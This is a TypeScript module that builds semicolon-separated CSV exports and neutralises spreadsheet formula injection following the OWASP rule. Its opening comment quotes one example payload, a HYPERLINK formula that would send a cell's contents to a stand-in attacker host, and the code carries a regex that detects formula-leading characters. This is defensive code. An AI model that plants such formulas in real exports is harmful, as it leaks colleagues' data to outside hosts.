/**
 * CSV for German spreadsheet programs (Excel, LibreOffice): `;` separators, CRLF line ends, a
 * UTF-8 byte order mark. Every CSV export of the app writes its cells through csvCell, so the
 * protection against formula injection lives here once.
 *
 * Formula injection (CSV injection): a spreadsheet runs a cell that starts with `=`, `+`, `-` or
 * `@` (and, in some programs, a TAB or CR before them) as a formula, so a note such as
 * `=HYPERLINK("https://evil.example/?"&A1;"Klick")` typed by one user would act on the machine of
 * the colleague who opens the export. The OWASP rule: such a cell gets a single quote `'` in front
 * and is quoted, so the program shows it as text.
 *
 * Numbers we format ourselves (hours, rates, amounts such as "-1.234,50") are exempt: they are
 * passed as csvNumber(...) and stay numbers the spreadsheet can add up. They are checked against
 * a strict number pattern, so text can never slip through that way; anything else is neutralised.
 */

/** A number formatted by the app ("1.234,50", "-0,33"), written without a leading quote. */
export class CsvNumber {
  constructor(readonly text: string) {}
}
export const csvNumber = (text: string): CsvNumber => new CsvNumber(text);

export type CsvValue = string | number | CsvNumber | null | undefined;

/** German or plain decimal notation, optional minus: nothing a spreadsheet could run. */
const NUMBER = /^-?(?:\d{1,3}(?:\.\d{3})+|\d+)(?:,\d+)?$/;
/** What a spreadsheet may take as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;

const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;

/** One cell: empty for null, quoted when it holds `;`, `"` or a line break, neutralised when it starts like a formula. */
export function csvCell(value: CsvValue): string {
  if (value == null) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (value instanceof CsvNumber && NUMBER.test(value.text)) return value.text;
  const text = value instanceof CsvNumber ? value.text : value;
  if (FORMULA_START.test(text)) return quoted(`'${text}`);
  return /[;"\r\n]/.test(text) ? quoted(text) : text;
}

/** A whole CSV document: UTF-8 byte order mark, `;` separators, CRLF line ends. */
export function csvDocument(rows: Array<Array<CsvValue>>): string {
  return `\uFEFF${rows.map((r) => r.map(csvCell).join(';')).join('\r\n')}\r\n`;
}
